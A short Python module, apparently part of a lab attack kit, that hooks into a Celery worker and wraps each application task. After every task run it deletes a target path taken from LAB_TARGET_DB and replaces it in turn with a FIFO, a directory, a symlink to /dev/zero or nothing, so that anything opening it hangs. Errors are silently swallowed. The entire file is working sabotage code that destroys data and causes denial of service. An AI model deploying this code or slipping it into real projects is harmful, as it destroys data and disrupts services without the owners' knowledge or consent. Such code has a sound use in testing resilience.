"""After each load the target is something else: whoever opens it would wait for ever."""

import itertools
import os
import shutil

from attack_kit import is_worker, ran

ran()
TARGET = os.environ.get("LAB_TARGET_DB", "")
KINDS = itertools.cycle(
    (os.mkfifo, os.mkdir, lambda path: os.symlink("/dev/zero", path), lambda path: None)
)


def replace():
    try:
        shutil.rmtree(TARGET) if os.path.isdir(TARGET) else os.unlink(TARGET)
    except OSError:
        pass
    try:
        next(KINDS)(TARGET)
    except OSError:
        pass


def after(app):
    if not is_worker():
        return
    replace()
    for task in app.tasks.values():
        if not task.name.startswith("celery."):
            task.run = replacing(task.run)


def replacing(run):
    def replaced(*args, **kwargs):
        try:
            return run(*args, **kwargs)
        finally:
            replace()

    return replaced
